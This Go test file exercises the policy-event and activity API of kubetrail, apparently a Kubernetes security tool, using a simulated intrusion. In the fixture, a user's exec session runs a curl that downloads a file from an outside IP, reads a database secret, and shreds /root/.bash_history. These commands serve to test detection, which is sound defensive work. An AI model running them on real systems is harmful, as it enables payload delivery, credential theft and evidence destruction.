package http_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail"
	kthttp "github.com/kubetrail/kubetrail/http"
)

// incident is a container's activity around john.doe's kubectl exec, with the
// policy events rules raised on it.
type incident struct {
	t0        time.Time
	container string
	events    map[string]*kubetrail.Event // by a short name
	download  kubetrail.Event             // the policy event on curl
	exec      kubetrail.Event             // on john's exec request
	host      kubetrail.Event             // on tcpdump on the node
	orphan    kubetrail.Event             // whose trigger is not stored
	secret    kubetrail.Event             // on john's read of a secret
}

// policyOn returns the policy event a rule of policy raises on trigger, as the
// ingest pipeline makes it.
func policyOn(trigger kubetrail.Event, policy, rule, priority string, tags ...string) kubetrail.Event {
	return kubetrail.Event{Time: trigger.Time, Category: kubetrail.CategoryPolicy, Type: trigger.Type,
		Cluster: trigger.Cluster, Node: trigger.Node, Namespace: trigger.Namespace, WorkloadKind: trigger.WorkloadKind,
		WorkloadName: trigger.WorkloadName, PodName: trigger.PodName, PodUID: trigger.PodUID, ContainerID: trigger.ContainerID,
		ContainerName: trigger.ContainerName, ImageRepository: trigger.ImageRepository, ImageTag: trigger.ImageTag,
		SessionID: trigger.SessionID,
		Alert: kubetrail.Alert{Policy: policy, Rule: rule, Priority: priority, Source: trigger.Source(), Tags: tags, Trigger: trigger.ID(),
			Output: rule + " (" + trigger.Process.Cmdline() + trigger.Audit.UserName + ")"}}
}

func writeIncident(t *testing.T, store kubetrail.EventStore) *incident {
	t.Helper()
	in := &incident{t0: time.Now().UTC().Add(-time.Hour).Truncate(time.Second), container: strings.Repeat("c", 64), events: map[string]*kubetrail.Event{}}
	t0 := in.t0
	seq := map[string]uint64{}
	var runtime []kubetrail.Event
	ev := func(name string, at time.Duration, cat kubetrail.Category, typ, session, execID string, argv ...string) kubetrail.Event {
		e := kubetrail.Event{Stream: "node-1.s", Time: t0.Add(at), Category: cat, Type: typ, Result: "SUCCESS",
			Cluster: "test", Node: "node-1", Namespace: "billing", WorkloadKind: "Deployment", WorkloadName: "invoice-api",
			PodName: "invoice-api-1", PodUID: "uid-1", ContainerID: in.container, ContainerName: "app",
			ImageRepository: "registry.example.com/invoice-api", ImageTag: "1.8.2", SessionID: session,
			Process: kubetrail.Process{Name: argv[0], Argv: argv, PID: int64(len(runtime) + 100), ExecID: execID, UserName: "root"}}
		return e
	}
	add := func(name string, e kubetrail.Event) {
		seq[e.Stream]++
		e.Seq = seq[e.Stream]
		runtime = append(runtime, e)
		in.events[name] = &e
	}
	add("cron", ev("cron", -10*time.Minute, kubetrail.CategoryProcess, "execve", "init", "x-cron", "cron-job"))
	add("sleep", ev("sleep", -4*time.Minute, kubetrail.CategoryProcess, "execve", "init", "x-sleep", "sleep", "60"))
	add("bash", ev("bash", 85*time.Millisecond, kubetrail.CategoryProcess, "execve", "s-john", "s-john", "bash"))
	add("curl", ev("curl", 5*time.Second, kubetrail.CategoryProcess, "execve", "s-john", "x-curl", "curl", "-sSLo", "/tmp/x", "http://185.220.101.47/x"))
	conn := ev("conn", 5*time.Second+30*time.Millisecond, kubetrail.CategoryNetwork, "connect", "s-john", "x-curl", "curl")
	conn.Network = kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "10.244.1.7", ClientPort: 40000, ServerIP: "185.220.101.47", ServerPort: 80}
	add("conn", conn)
	// Another container on the node, and the node itself.
	other := ev("nginx", 6*time.Second, kubetrail.CategoryProcess, "execve", "init-2", "x-nginx", "nginx")
	other.PodName, other.PodUID, other.ContainerID, other.WorkloadName = "web-1", "uid-2", strings.Repeat("d", 64), "web"
	add("nginx", other)
	tcpdump := ev("tcpdump", 7*time.Second, kubetrail.CategoryProcess, "execve", "", "x-tcpdump", "tcpdump", "-i", "any")
	tcpdump.Namespace, tcpdump.WorkloadKind, tcpdump.WorkloadName, tcpdump.PodName, tcpdump.PodUID, tcpdump.ContainerID, tcpdump.ContainerName = "", "", "", "", "", "", ""
	tcpdump.ImageRepository, tcpdump.ImageTag = "", ""
	add("tcpdump", tcpdump)
	file := ev("file", 4*time.Minute, kubetrail.CategoryFile, "open", "s-john", "x-curl", "curl")
	file.File.Path = "/tmp/x"
	add("file", file)
	add("logrotate", ev("logrotate", 4*time.Minute+time.Second, kubetrail.CategoryProcess, "execve", "init", "x-logrotate", "logrotate"))
	add("shred", ev("shred", 20*time.Minute, kubetrail.CategoryProcess, "execve", "s-john", "x-shred", "shred", "-u", "/root/.bash_history"))
	exit := ev("exit", 21*time.Minute, kubetrail.CategoryProcess, "exit", "s-john", "s-john", "bash")
	add("exit", exit)
	// tcpdump on another node at the same time.
	far := tcpdump
	far.Stream, far.Node = "node-2.s", "node-2"
	add("far", far)

	req := kubetrail.Event{Time: t0, Category: kubetrail.CategoryK8s, Type: "get", Cluster: "test", Namespace: "billing", PodName: "invoice-api-1", ContainerName: "app",
		Audit: kubetrail.Audit{AuditID: "a-john", Stage: "ResponseComplete", StageTime: t0.Add(21 * time.Minute), UserName: "john.doe", UserGroups: []string{"devs"},
			Verb: "get", URI: "/api/v1/namespaces/billing/pods/invoice-api-1/exec?command=bash&container=app&stdin=true&tty=true",
			Resource: "pods", Subresource: "exec", TargetNamespace: "billing", TargetName: "invoice-api-1",
			SourceIPs: []string{"66.249.64.55"}, UserAgent: "kubectl/v1.33.13", ResponseCode: 101, ExecCommand: []string{"bash"}, ExecContainer: "app"}}
	in.events["request"] = &req
	secret := kubetrail.Event{Time: t0.Add(2 * time.Minute), Category: kubetrail.CategoryK8s, Type: "get", Cluster: "test", Namespace: "billing",
		Audit: kubetrail.Audit{AuditID: "a-secret", Stage: "ResponseComplete", UserName: "john.doe", Verb: "get", Resource: "secrets",
			TargetNamespace: "billing", TargetName: "db-password", ResponseCode: 200, SourceIPs: []string{"66.249.64.55"}}}
	in.events["secret"] = &secret

	in.download = policyOn(*in.events["curl"], "runtime", "Outbound download", "WARNING", "mitre_command_and_control", "T1105")
	in.exec = policyOn(req, "k8s", "Attach/Exec Pod", "NOTICE")
	in.host = policyOn(tcpdump, "runtime", "Packet capture on host", "ERROR")
	in.orphan = policyOn(*in.events["logrotate"], "runtime", "Log tampering", "DEBUG")
	in.orphan.Time = t0.Add(3 * time.Minute)
	in.orphan.Alert.Trigger = "node-1.gone/7"
	in.orphan.SessionID = ""
	in.secret = policyOn(secret, "k8s", "Read secret", "NOTICE")
	batch := append(runtime, req, secret, in.download, in.exec, in.host, in.orphan, in.secret)
	if _, err := store.Write(context.Background(), batch); err != nil {
		t.Fatal(err)
	}
	return in
}

func ids(events []kubetrail.Event) []string {
	out := make([]string, len(events))
	for i := range events {
		out[i] = events[i].ID()
	}
	return out
}

func ptrIDs(events []*kubetrail.Event) []string {
	out := make([]string, len(events))
	for i := range events {
		out[i] = events[i].ID()
	}
	return out
}

func TestPolicyEventsList(t *testing.T) {
	e := start(t)
	in := writeIncident(t, e.store)
	ctx := context.Background()
	window := kthttp.Query{From: in.t0.Add(-time.Hour), To: in.t0.Add(time.Hour)}

	// Every policy event, newest first, and nothing else.
	page, err := e.client.PolicyEvents(ctx, window)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{in.orphan.ID(), in.secret.ID(), in.host.ID(), in.download.ID(), in.exec.ID()}
	got := ids(page.Events)
	if !slices.Equal(got, want) || page.Next != "" {
		t.Fatalf("policy events %v (next %q), want %v", got, page.Next, want)
	}
	for i := 1; i < len(page.Events); i++ {
		if page.Events[i].Time.After(page.Events[i-1].Time) {
			t.Errorf("not newest first: %v", got)
		}
	}
	for _, ev := range page.Events {
		if ev.Category != kubetrail.CategoryPolicy {
			t.Errorf("%s is a %s event", ev.ID(), ev.Category)
		}
	}
	// The download carries the user of the session it happened in.
	for _, ev := range page.Events {
		if ev.ID() == in.download.ID() && (ev.Audit.UserName != "john.doe" || ev.SessionID != "s-john") {
			t.Errorf("download: user %q session %q", ev.Audit.UserName, ev.SessionID)
		}
	}

	for _, tc := range []struct {
		filter string
		want   []string
	}{
		{"policy.priority = WARNING", []string{in.download.ID()}},
		{"policy.priority in (ERROR, WARNING)", []string{in.host.ID(), in.download.ID()}},
		{"ka.user.name = john.doe", []string{in.download.ID()}},
		{"policy.name = k8s", []string{in.secret.ID(), in.exec.ID()}},
		{"k8s.node.name = node-1 and evt.is_host = 1", []string{in.host.ID()}},
		{"proc.name = curl", nil},                      // a policy event has no process of its own
		{"evt.category = process", nil},                // the filter narrows, never widens
		{"policy.rule = x or evt.category = k8s", nil}, // the or stays inside the parentheses
	} {
		q := window
		q.Filter = tc.filter
		page, err := e.client.PolicyEvents(ctx, q)
		if err != nil {
			t.Fatalf("%s: %v", tc.filter, err)
		}
		if got := ids(page.Events); !slices.Equal(got, tc.want) && !(len(got) == 0 && len(tc.want) == 0) {
			t.Errorf("%s: %v, want %v", tc.filter, got, tc.want)
		}
	}

	// Pages of two: every policy event once, in order.
	q := window
	q.Limit = 2
	var seen []string
	pages := 0
	for {
		page, err := e.client.PolicyEvents(ctx, q)
		if err != nil {
			t.Fatal(err)
		}
		pages++
		seen = append(seen, ids(page.Events)...)
		if page.Next == "" {
			break
		}
		q.Cursor = page.Next
	}
	if pages != 3 || !slices.Equal(seen, got) {
		t.Errorf("%d pages: %v, want %v", pages, seen, got)
	}
	// The window applies.
	q = kthttp.Query{From: in.t0.Add(time.Second), To: in.t0.Add(10 * time.Second)}
	if page, err := e.client.PolicyEvents(ctx, q); err != nil || !slices.Equal(ids(page.Events), []string{in.host.ID(), in.download.ID()}) {
		t.Errorf("window: %v %v", ids(page.Events), err)
	}
	// A bad filter says where, as search does.
	_, err = e.client.PolicyEvents(ctx, kthttp.Query{Filter: "policy.rul = x"})
	var de *kubetrail.Error
	if !errors.As(err, &de) || de.Code != kubetrail.EINVALID || !strings.Contains(de.Where, "filter") {
		t.Errorf("bad filter: %#v", err)
	}
}

func TestActivityAroundContainerEvent(t *testing.T) {
	e := start(t)
	in := writeIncident(t, e.store)
	ctx := context.Background()
	a, err := e.client.Activity(ctx, in.download.ID(), 5*time.Minute, 5*time.Minute, 0)
	if err != nil {
		t.Fatal(err)
	}
	curl := *in.events["curl"]
	if a.Event.ID() != in.download.ID() || a.Trigger == nil || a.Trigger.ID() != curl.ID() || a.Trigger.Process.Cmdline() != curl.Process.Cmdline() {
		t.Fatalf("event %+v trigger %+v", a.Event, a.Trigger)
	}
	if a.Session == nil || a.Session.ID != "s-john" || a.Session.Request == nil || a.Session.Request.UserName != "john.doe" {
		t.Fatalf("session %+v", a.Session)
	}
	if a.Scope != "container" || a.Filter != "container.id = "+in.container+" or session.id = s-john" {
		t.Errorf("scope %q filter %q", a.Scope, a.Filter)
	}
	if !a.Window.From.Equal(curl.Time.Add(-5*time.Minute)) || !a.Window.To.Equal(curl.Time.Add(5*time.Minute+time.Nanosecond)) {
		t.Errorf("window %+v around %s", a.Window, curl.Time)
	}
	// The container's events in the window and the session's, whenever: oldest
	// first, the trigger before the policy event raised on it.
	ev := in.events
	want := []string{ev["sleep"].ID(), "audit/a-john", ev["bash"].ID(), ev["curl"].ID(), in.download.ID(), ev["conn"].ID(), in.orphan.ID(),
		ev["file"].ID(), ev["logrotate"].ID(), ev["shred"].ID(), ev["exit"].ID()}
	if got := ptrIDs(a.Events); !slices.Equal(got, want) {
		t.Errorf("events\n got %v\nwant %v", got, want)
	}
	if a.Truncated {
		t.Error("truncated")
	}
	for _, x := range a.Events {
		if x.SessionID == "s-john" && x.Audit.UserName != "john.doe" {
			t.Errorf("%s of john's session lacks his name", x.ID())
		}
	}

	// A narrower window leaves out what is neither near nor in the session.
	a, err = e.client.Activity(ctx, in.download.ID(), time.Minute, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	want = []string{"audit/a-john", ev["bash"].ID(), ev["curl"].ID(), in.download.ID(), ev["conn"].ID(), ev["file"].ID(), ev["shred"].ID(), ev["exit"].ID()}
	if got := ptrIDs(a.Events); !slices.Equal(got, want) {
		t.Errorf("1m before, 0 after\n got %v\nwant %v", got, want)
	}
	if !a.Window.To.Equal(curl.Time.Add(time.Nanosecond)) {
		t.Errorf("window %+v", a.Window)
	}

	// A limit keeps the events closest to the trigger, and says so.
	a, err = e.client.Activity(ctx, in.download.ID(), time.Hour, time.Hour, 2)
	if err != nil {
		t.Fatal(err)
	}
	if !a.Truncated || !slices.Contains(ptrIDs(a.Events), curl.ID()) || !slices.Contains(ptrIDs(a.Events), in.download.ID()) {
		t.Errorf("limit 2: truncated %v, %v", a.Truncated, ptrIDs(a.Events))
	}
	if slices.Contains(ptrIDs(a.Events), ev["cron"].ID()) || slices.Contains(ptrIDs(a.Events), ev["logrotate"].ID()) {
		t.Errorf("limit 2 kept far events: %v", ptrIDs(a.Events))
	}
	// Half each side: the latest before the trigger, the earliest after it
	// (which a search, newest first, does not give at once).
	a, err = e.client.Activity(ctx, in.host.ID(), time.Hour, time.Hour, 6)
	if err != nil {
		t.Fatal(err)
	}
	got := ptrIDs(a.Events)
	if !a.Truncated || len(got) != 6 || got[1] != ev["conn"].ID() || got[2] != ev["nginx"].ID() ||
		!slices.Equal(got[3:], []string{ev["tcpdump"].ID(), in.host.ID(), in.orphan.ID()}) {
		t.Errorf("limit 6 around tcpdump: truncated %v, %v", a.Truncated, got)
	}
}

func TestActivityScopes(t *testing.T) {
	e := start(t)
	in := writeIncident(t, e.store)
	ctx := context.Background()
	ev := in.events

	// On john's exec request: its pod, and the session it started.
	a, err := e.client.Activity(ctx, in.exec.ID(), time.Minute, time.Minute, 0)
	if err != nil {
		t.Fatal(err)
	}
	if a.Scope != "pod" || a.Filter != "k8s.cluster.name = test and k8s.ns.name = billing and k8s.pod.name = invoice-api-1 or session.id = s-john" {
		t.Errorf("exec: scope %q filter %q", a.Scope, a.Filter)
	}
	if a.Session == nil || a.Session.ID != "s-john" || a.Trigger == nil || a.Trigger.Audit.AuditID != "a-john" {
		t.Errorf("exec: session %+v trigger %+v", a.Session, a.Trigger)
	}
	want := []string{"audit/a-john", in.exec.ID(), ev["bash"].ID(), ev["curl"].ID(), in.download.ID(), ev["conn"].ID(),
		ev["file"].ID(), ev["shred"].ID(), ev["exit"].ID()}
	if got := ptrIDs(a.Events); !slices.Equal(got, want) {
		t.Errorf("exec events\n got %v\nwant %v", got, want)
	}

	// On the node: the node's events, not another node's.
	a, err = e.client.Activity(ctx, in.host.ID(), time.Second, time.Second, 0)
	if err != nil {
		t.Fatal(err)
	}
	if a.Scope != "node" || a.Filter != "k8s.cluster.name = test and k8s.node.name = node-1" || a.Session != nil {
		t.Errorf("host: scope %q filter %q session %+v", a.Scope, a.Filter, a.Session)
	}
	if got := ptrIDs(a.Events); !slices.Equal(got, []string{ev["nginx"].ID(), ev["tcpdump"].ID(), in.host.ID()}) {
		t.Errorf("host events %v", got)
	}

	// Its trigger gone, a policy event is placed by the scope and time it kept.
	a, err = e.client.Activity(ctx, in.orphan.ID(), 2*time.Minute, 30*time.Second, 0)
	if err != nil {
		t.Fatal(err)
	}
	if a.Trigger != nil || a.Scope != "container" || a.Session != nil {
		t.Errorf("orphan: trigger %+v scope %q session %+v", a.Trigger, a.Scope, a.Session)
	}
	if got := ptrIDs(a.Events); !slices.Equal(got, []string{in.orphan.ID()}) {
		t.Errorf("orphan events %v", got)
	}

	// A request on no pod: what its user did around it.
	a, err = e.client.Activity(ctx, in.secret.ID(), 3*time.Minute, time.Minute, 0)
	if err != nil {
		t.Fatal(err)
	}
	if a.Scope != "user" || a.Filter != "k8s.cluster.name = test and ka.user.name = john.doe" {
		t.Errorf("secret: scope %q filter %q", a.Scope, a.Filter)
	}
	got := ptrIDs(a.Events)
	for _, id := range []string{"audit/a-john", ev["curl"].ID(), in.download.ID(), "audit/a-secret", in.secret.ID()} {
		if !slices.Contains(got, id) {
			t.Errorf("secret: %s missing from %v", id, got)
		}
	}
	if slices.Contains(got, ev["file"].ID()) || slices.Contains(got, ev["sleep"].ID()) {
		t.Errorf("secret: %v", got)
	}
}

func TestActivityErrors(t *testing.T) {
	e := start(t)
	in := writeIncident(t, e.store)
	ctx := context.Background()
	get := func(path string) (int, kthttp.ErrorResponse, string) {
		status, data := e.get(t, path, true)
		var er kthttp.ErrorResponse
		json.Unmarshal(data, &er)
		return status, er, string(data)
	}
	hash := strings.TrimPrefix(in.download.ID(), "policy/")
	// The id escaped, as written, or the hash alone.
	for _, path := range []string{"policy%2F" + hash, "policy/" + hash, hash} {
		if status, _, body := get("/api/v1/policy-events/" + path + "/activity?before=1s&after=1s"); status != 200 || !strings.Contains(body, `"scope":"container"`) {
			t.Errorf("%s: %d %s", path, status, body)
		}
	}
	cases := []struct {
		path    string
		status  int
		code    string
		message string
	}{
		{"policy%2F" + strings.Repeat("0", 32), 404, kubetrail.ENOTFOUND, "no event"},
		{"policy/" + strings.Repeat("0", 32), 404, kubetrail.ENOTFOUND, "no event"},
		{url(in.events["curl"].ID()), 400, kubetrail.EINVALID, "not a policy event"},
		{"audit%2Fa-john", 400, kubetrail.EINVALID, "k8s event, not a policy event"},
		{"policy%2F" + hash + "/activity?before=soon", 400, kubetrail.EINVALID, "positive duration"},
		{"policy%2F" + hash + "/activity?limit=0", 400, kubetrail.EINVALID, "positive whole number"},
	}
	for _, c := range cases {
		path := "/api/v1/policy-events/" + c.path
		if !strings.Contains(c.path, "/activity") {
			path += "/activity"
		}
		status, er, body := get(path)
		if status != c.status || er.Error.Code != c.code || !strings.Contains(er.Error.Message+" "+er.Error.Where, c.message) {
			t.Errorf("%s: %d %s, want %d %s %q", c.path, status, body, c.status, c.code, c.message)
		}
	}
	// Through the client, the same.
	if _, err := e.client.Activity(ctx, in.events["curl"].ID(), -1, -1, 0); kubetrail.ErrorCode(err) != kubetrail.EINVALID {
		t.Errorf("client, runtime event: %v", err)
	}
	if _, err := e.client.Activity(ctx, "policy/"+strings.Repeat("f", 32), -1, -1, 0); kubetrail.ErrorCode(err) != kubetrail.ENOTFOUND {
		t.Errorf("client, unknown: %v", err)
	}
}

func url(id string) string { return strings.ReplaceAll(id, "/", "%2F") }

// fakePolicies is a PolicyService whose reload fails while fail is set.
type fakePolicies struct {
	mu      sync.Mutex
	state   kthttp.PolicyState
	next    kthttp.PolicyState
	fail    error
	reloads int
}

func (f *fakePolicies) Current() kthttp.PolicyState {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.state
}

func (f *fakePolicies) Reload(ctx context.Context) (kthttp.PolicyState, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.reloads++
	if f.fail != nil {
		return kthttp.PolicyState{}, f.fail
	}
	f.state = f.next
	return f.state, nil
}

func TestPoliciesEndpoints(t *testing.T) {
	ctx := context.Background()
	// Without a policy service: not found, saying why.
	e := start(t)
	for _, call := range []func() error{
		func() error { _, err := e.client.Policies(ctx); return err },
		func() error { _, err := e.client.ReloadPolicies(ctx); return err },
	} {
		err := call()
		var de *kubetrail.Error
		if !errors.As(err, &de) || de.Code != kubetrail.ENOTFOUND || de.Message != "policies are not enabled" {
			t.Errorf("no policies: %#v", err)
		}
	}

	shell := kubetrail.RuleStatus{Name: "Terminal shell in container", File: "falco_rules.yaml", Source: "syscall", Priority: "NOTICE",
		Tags: []string{"container", "shell"}, Enabled: true, Policies: []string{"runtime"}}
	missing := kubetrail.RuleStatus{Name: "Read sensitive file untrusted", File: "falco_rules.yaml", Source: "syscall", Priority: "WARNING",
		Reason: "fields kubetrail cannot fill", Missing: []string{"fd.name"}}
	fake := &fakePolicies{
		state: kthttp.PolicyState{Policies: []kubetrail.Policy{{Name: "runtime", Enabled: true, Tags: []string{"container"}, Scope: kubetrail.Scope{Namespaces: []string{"billing"}}}},
			Rules: []kubetrail.RuleStatus{shell, missing}, Files: []string{"falco_rules.yaml"}},
	}
	fake.next = fake.state
	fake.next.Policies = append(slices.Clone(fake.state.Policies), kubetrail.Policy{Name: "pci", Enabled: false})
	fake.next.Warnings = []string{"policy pci selects no rule"}
	e = start(t, func(s *kthttp.Server) { s.Policies = fake })

	st, err := e.client.Policies(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(st.Policies) != 1 || st.Policies[0].Scope.Namespaces[0] != "billing" || len(st.Rules) != 2 || st.Rules[1].Missing[0] != "fd.name" || st.Files[0] != "falco_rules.yaml" {
		t.Fatalf("policies: %+v", st)
	}
	// A failed reload says what is wrong; what was in force stays.
	fake.fail = kubetrail.ErrorAt(kubetrail.EINVALID, "my_rules.yaml line 3", "condition does not parse")
	_, err = e.client.ReloadPolicies(ctx)
	var de *kubetrail.Error
	if !errors.As(err, &de) || de.Code != kubetrail.EINVALID || de.Message != "condition does not parse" || de.Where != "my_rules.yaml line 3" {
		t.Errorf("failed reload: %#v", err)
	}
	fake.fail = fmt.Errorf("read /etc/kubetrail/rules: permission denied")
	if _, err = e.client.ReloadPolicies(ctx); kubetrail.ErrorCode(err) != kubetrail.EINVALID || !strings.Contains(err.Error(), "permission denied") {
		t.Errorf("failed reload, plain error: %v", err)
	}
	if st, _ := e.client.Policies(ctx); len(st.Policies) != 1 {
		t.Errorf("after a failed reload: %+v", st.Policies)
	}
	fake.fail = nil
	st, err = e.client.ReloadPolicies(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(st.Policies) != 2 || st.Policies[1].Name != "pci" || st.Warnings[0] != "policy pci selects no rule" || fake.reloads != 3 {
		t.Errorf("reloaded: %+v (%d reloads)", st, fake.reloads)
	}
	if st, _ := e.client.Policies(ctx); len(st.Policies) != 2 {
		t.Errorf("after reload: %+v", st.Policies)
	}

	// Nothing loaded yet: lists, not nulls.
	empty := &fakePolicies{}
	e = start(t, func(s *kthttp.Server) { s.Policies = empty })
	_, body := e.get(t, "/api/v1/policies", true)
	if strings.TrimSpace(string(body)) != `{"policies":[],"rules":[],"files":[]}` {
		t.Errorf("empty state: %s", body)
	}
}
